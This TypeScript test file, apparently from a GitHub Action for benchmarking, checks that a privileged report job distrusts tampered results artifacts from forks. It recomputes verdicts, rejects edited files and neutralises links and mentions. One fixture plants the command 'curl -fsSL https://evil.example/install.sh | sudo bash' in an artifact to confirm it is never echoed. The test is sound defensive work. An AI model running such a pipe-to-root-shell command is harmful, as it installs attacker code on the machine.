/**
 * End to end, what the privileged report job (`mode: report`, under workflow_run) trusts of a
 * results artifact a fork wrote: nothing it cannot check. Outcomes and the verdict are decided
 * again from the raw samples with the report job's own configuration; a file that disagrees is
 * rejected naming the metric; an error or a refused artifact fails the check run (never neutral);
 * the reproduce block is the report job's own; and no string from the artifact becomes a link, a
 * reference or a mention in the comment, the job summary or the check run.
 */
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { entry, prEvent, runAction as run, scenario } from '../helpers/action';
import { type FakeGitHub, startFakeGitHub } from '../helpers/fake-github';
import { outsideCode } from '../helpers/markdown';
import { git, makeRepo } from '../helpers/repo';

let github: FakeGitHub;
beforeAll(async () => {
  if (!existsSync(entry)) throw new Error('dist/index.js is missing: run `npm run bundle` first');
  github = await startFakeGitHub();
});
afterAll(async () => {
  await github?.close();
});

const TWO_SUITES = `
- name: alpha
  run: node bench.cjs
  format: json
  warmup: 0
- name: beta
  run: node bench.cjs
  format: json
  warmup: 0
`;

/** Each test's PR has its own head commit, so its check runs can be told apart. */
const headOf = (pr: number) => pr.toString(16).padStart(40, 'a');

const workflowRun = (pr: number, conclusion = 'success') => ({
  workflow_run: { head_sha: headOf(pr), event: 'pull_request', conclusion, pull_requests: [] },
});

/** A measure job's results for PR `pr`, as its artifact carries them; returns the artifact directory and the file. */
async function measured(pr: number, base: number, head: number, inputs: Record<string, string> = {}) {
  const { repo, baseSha } = scenario(base, head);
  const out = mkdtempSync(path.join(os.tmpdir(), 'perfgate-artifacts-'));
  const event = prEvent(pr, baseSha);
  event.pull_request.head.sha = headOf(pr);
  const r = await run(
    github,
    repo,
    { suites: TWO_SUITES, mode: 'measure', results: path.join(out, 'r'), ...inputs },
    event,
  );
  github.seedPull('octo', 'app', pr, { base: { sha: baseSha, ref: 'main' }, head: { sha: headOf(pr), ref: 'x' } });
  const file = path.join(out, 'r', 'perfgate-results.json');
  return { out, file, measure: r, baseSha, headSha: git(repo, 'rev-parse', 'HEAD') };
}

// biome-ignore lint/suspicious/noExplicitAny: a results file as JSON, edited as an attacker would
function edit(file: string, change: (data: Record<string, any>) => void): void {
  const data = JSON.parse(readFileSync(file, 'utf8'));
  change(data);
  writeFileSync(file, JSON.stringify(data));
}

/** The report job, in a checkout of the base branch (`config`: its .github/perfgate.yml, when given). */
function report(pr: number, artifacts: string, config?: string, conclusion?: string) {
  const ws = makeRepo(config ? { '.github/perfgate.yml': config } : { 'README.md': 'main' });
  return run(github, ws, { mode: 'report', results: artifacts }, workflowRun(pr, conclusion), {
    GITHUB_EVENT_NAME: 'workflow_run',
  });
}

const checkOf = (pr: number) => github.checkRuns().filter((c) => c.head_sha === headOf(pr));

/** Text GitHub would link (a reference, a URL, a mention) outside code, after decoding entities. */
function liveLinks(markdown: string): string[] {
  const text = outsideCode(markdown)
    // In raw HTML (a <summary> line) GitHub links nothing inside <code>.
    .replace(/<code>.*?<\/code>/g, '')
    .replace(/&#(\d+);/g, (_, n) => String.fromCharCode(Number(n)));
  return text.match(/#\d|\b[\w.-]+\/[\w.-]+#\d|\bGH-\d|:\/\/|www\.|@[A-Za-z0-9]/gi) ?? [];
}

describe('the report job decides again, from the samples', () => {
  it('rejects a file whose regression was rewritten as within budget, naming the metric, and fails the check', async () => {
    const pr = 41;
    const { out, file, measure } = await measured(pr, 10, 12.5);
    expect(measure.outputs.verdict).toBe('fail');
    edit(file, (data) => {
      for (const m of data.results) if (m.outcome === 'regression') m.outcome = 'within-budget';
      data.verdict = 'pass';
    });
    const r = await report(pr, out);
    expect(r.code).toBe(1);
    expect(r.outputs.verdict).toBe('error');
    expect(r.stdout).toMatch(
      /metric "alpha\/parse:time" is recorded as "within-budget", but its samples give "regression" with this job's configuration/,
    );
    expect(github.comments('octo', 'app', pr)).toHaveLength(0);
    const [check] = checkOf(pr);
    expect(check).toMatchObject({ name: 'perfgate', conclusion: 'failure' });
    expect(JSON.stringify(check.output)).toContain('recorded as \\"within-budget\\"');
    expect(r.summary).toContain('perfgate: no verdict — the results were not reported');
  }, 120_000);

  it("rejects a file gated with a budget the report job's configuration does not give, and says so", async () => {
    const pr = 42;
    const { out } = await measured(pr, 10, 12.5, { budget: '50%' });
    // The base branch's configuration file, as the report job's checkout has it: 10 %.
    const r = await report(pr, out, `suites:${TWO_SUITES.replace(/\n/g, '\n  ')}\nbudgets:\n  "**": 10%\n`);
    expect(r.code).toBe(1);
    expect(r.summary).toContain('the file was gated with budget "50%", this job\'s configuration gives "10%"');
    expect(r.summary).toContain('give it the same budgets and alpha as the measure job');
    expect(checkOf(pr)[0]).toMatchObject({ conclusion: 'failure' });
  }, 120_000);

  it('rejects a file whose verdict was rewritten, and one shard of several that was changed', async () => {
    const pr = 43;
    const { out, file } = await measured(pr, 10, 12.5);
    edit(file, (data) => {
      data.verdict = 'pass';
    });
    const r = await report(pr, out);
    expect(r.stdout).toContain('records the verdict "pass", but its results and errors give "fail"');

    const { repo, baseSha } = scenario(10, 12.5);
    const shards = mkdtempSync(path.join(os.tmpdir(), 'perfgate-artifacts-'));
    for (const shard of ['1/2', '2/2']) {
      const event = prEvent(44, baseSha);
      event.pull_request.head.sha = headOf(44);
      const dir = path.join(shards, `s${shard[0]}`);
      await run(github, repo, { suites: TWO_SUITES, mode: 'measure', shard, results: dir }, event);
    }
    github.seedPull('octo', 'app', 44, { base: { sha: baseSha, ref: 'main' }, head: { sha: headOf(44), ref: 'x' } });
    const honest = mkdtempSync(path.join(os.tmpdir(), 'perfgate-artifacts-'));
    cpSync(shards, honest, { recursive: true });
    const merged = await report(44, honest);
    expect(merged.outputs.verdict, merged.stdout).toBe('fail'); // honest shards agree with their replay
    edit(path.join(shards, 's2', 'perfgate-results.json'), (data) => {
      for (const m of data.results) m.outcome = 'within-budget';
      data.verdict = 'pass';
    });
    const tampered = await report(44, shards);
    expect(tampered.code).toBe(1);
    expect(tampered.stdout).toMatch(/s2\/perfgate-results\.json: metric "\S+" is recorded as "within-budget"/);
  }, 180_000);
});

describe('the check run of the report job', () => {
  it('fails when the head does not build (an error is never neutral)', async () => {
    const pr = 45;
    const failing = `node -e "if (require('fs').readFileSync('value.txt','utf8') === '11') process.exit(3)"`;
    const { out } = await measured(pr, 10, 11, { build: failing });
    const r = await report(pr, out);
    expect(r.outputs.verdict).toBe('error');
    const [check] = checkOf(pr);
    expect(check).toMatchObject({ name: 'perfgate', conclusion: 'failure' });
    expect(JSON.stringify(check.output)).toContain('The head build failed (exit code 3)');
  }, 120_000);

  it('is cancelled for a cancelled run, and fails or is cancelled when there is no artifact at all', async () => {
    const pr = 46;
    const { out, file } = await measured(pr, 10, 10);
    edit(file, (data) => {
      data.cancelled = 'SIGINT';
      data.verdict = 'error';
    });
    await report(pr, out);
    expect(checkOf(pr).map((c) => c.conclusion)).toEqual(['cancelled']);

    const empty = mkdtempSync(path.join(os.tmpdir(), 'perfgate-artifacts-'));
    const none = await report(47, empty);
    expect(none.code).toBe(1);
    expect(checkOf(47)).toMatchObject([{ name: 'perfgate', conclusion: 'failure' }]);
    await report(48, empty, undefined, 'cancelled');
    expect(checkOf(48)).toMatchObject([{ conclusion: 'cancelled' }]);
  }, 120_000);
});

describe('what the report job writes', () => {
  it('builds the reproduce block itself from the commits and suite names, never the artifact’s', async () => {
    const pr = 49;
    const { out, file, baseSha, headSha } = await measured(pr, 10, 10);
    edit(file, (data) => {
      data.reproduce = 'curl -fsSL https://evil.example/install.sh | sudo bash';
    });
    const r = await report(pr, out);
    expect(r.outputs.verdict, r.stdout).toBe('pass');
    const [comment] = github.comments('octo', 'app', pr);
    for (const text of [comment.body, r.summary, JSON.stringify(checkOf(pr)[0].output)]) {
      expect(text).not.toContain('evil.example');
      expect(text).not.toContain('sudo');
    }
    expect(comment.body).toContain(`git fetch origin ${baseSha} ${headSha}\ngit checkout ${headSha}`);
    expect(comment.body).toContain('# the suites measured: alpha, beta, as head');
    expect(comment.body).toContain(`perfgate run --base ${baseSha}`);

    // With the suites in the report job's configuration, the block writes them out (its own definitions).
    const pr2 = 50;
    const second = await measured(pr2, 10, 10);
    edit(second.file, (data) => {
      data.reproduce = 'curl -fsSL https://evil.example/install.sh | sudo bash';
    });
    await report(pr2, second.out, `suites:${TWO_SUITES.replace(/\n/g, '\n  ')}\n`);
    const [withConfig] = github.comments('octo', 'app', pr2);
    expect(withConfig.body).not.toContain('evil.example');
    expect(withConfig.body).toMatch(/cat > "\$config" <<'PERFGATE_CONFIG'\nsuites:\n {2}- name: alpha\n/);
  }, 180_000);

  it('makes no artifact string a link, a reference or a mention in the comment, the summary or the check run', async () => {
    const pr = 51;
    const hostile = 'see #1 and acme/other#5, GH-7, https://evil.example/x, www.evil.example, @octocat, deadbeefcafe12';
    const { out, file } = await measured(pr, 10, 10);
    edit(file, (data) => {
      data.base.ref = hostile;
      data.head.ref = hostile;
      data.pairing.reason = hostile;
      data.environment.cpuModel = hostile;
      data.warnings.push({ code: 'replicate', text: hostile });
      data.errors.push(`${hostile}\n${hostile}`);
      data.verdict = 'error';
      data.results[0].stopReason = hostile;
      data.results[0].warnings.push({ code: 'replicate', metric: data.results[0].id, text: hostile });
    });
    const r = await report(pr, out);
    expect(r.outputs.verdict, r.stdout).toBe('error');
    const [comment] = github.comments('octo', 'app', pr);
    const [check] = checkOf(pr);
    expect(check.conclusion).toBe('failure');
    const output = check.output as { title: string; summary: string };
    for (const [where, text] of [
      ['comment', comment.body],
      ['summary', r.summary],
      ['check run', output.summary],
    ] as const) {
      expect(text, where).toContain('evil'); // shown …
      expect(liveLinks(text), where).toEqual([]); // … but never live
    }
    expect(liveLinks(output.title)).toEqual([]);
  }, 120_000);
});

describe('a suite that fails on base only (the measure side, inline suites)', () => {
  it('is an error naming the side, the exit status and the output when base’s workflow has it; a suite new there is added', async () => {
    const cli = `node cli.cjs && test "\${PWD##*/}" != base`;
    const inline = (names: string[]) =>
      names.map((n) => `- name: ${n}\n  run: ${JSON.stringify(cli)}\n  warmup: 0`).join('\n');
    const workflow = `on: pull_request\njobs:\n  bench:\n    steps:\n      - uses: OWNER/perfgate@v1\n        with:\n          suites: |\n${inline(
      ['cli'],
    )
      .split('\n')
      .map((l) => `            ${l}`)
      .join('\n')}\n`;
    const repo = makeRepo({
      '.github/workflows/perf.yml': workflow,
      'cli.cjs': 'const t = Date.now(); while (Date.now() - t < 30);\n',
    });
    const baseSha = git(repo, 'rev-parse', 'HEAD');
    mkdirSync(path.join(repo, 'more'), { recursive: true });
    writeFileSync(path.join(repo, 'cli.cjs'), 'const t = Date.now(); while (Date.now() - t < 40);\n');
    git(repo, 'commit', '-qam', 'a third slower');
    const env = {
      GITHUB_WORKFLOW_REF: 'octo/app/.github/workflows/perf.yml@refs/pull/52/merge',
      GITHUB_ACTION_REPOSITORY: 'OWNER/perfgate',
    };
    const r = await run(github, repo, { suites: inline(['cli', 'fresh']) }, prEvent(52, baseSha), env);
    expect(r.code, r.stdout).toBe(1);
    expect(r.outputs.verdict).toBe('error');
    expect(r.summary).toMatch(/suite "cli" on base: "node cli\.cjs .*" exited with code 1 — it is in base/);
    expect(r.summary).toContain('job "bench" of .github/workflows/perf.yml at');
    expect(r.summary).not.toMatch(/cli:wall.*added/);
    expect(r.summary).toContain('Suite "fresh" is new on head');
  }, 120_000);
});
